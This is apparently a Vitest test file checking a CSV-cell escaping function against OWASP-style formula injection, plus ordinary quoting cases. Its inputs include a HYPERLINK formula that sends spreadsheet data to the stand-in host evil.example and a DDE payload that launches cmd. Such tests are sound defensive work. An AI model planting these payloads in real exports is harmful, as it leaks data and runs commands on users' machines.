import { describe, expect, it } from "vitest";
import { neutraliseCsvCell } from "./neutralise-csv-cell.ts";

describe("neutraliseCsvCell (OWASP CSV injection)", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ["+1+1", `"'+1+1"`],
    ["-2+3", `"'-2+3"`],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
  ])("neutralises %j", (value, expected) => {
    expect(neutraliseCsvCell(value)).toBe(expected);
  });

  it("leaves plain text and numbers as they are, and quotes separators", () => {
    expect(neutraliseCsvCell("Team Fjord")).toBe("Team Fjord");
    expect(neutraliseCsvCell("a, b")).toBe('"a, b"');
    expect(neutraliseCsvCell('say "hi"')).toBe('"say ""hi"""');
    expect(neutraliseCsvCell(-0.25)).toBe("-0.25");
    expect(neutraliseCsvCell("2026-11-24T11:00:00.000Z")).toBe("2026-11-24T11:00:00.000Z");
  });
});
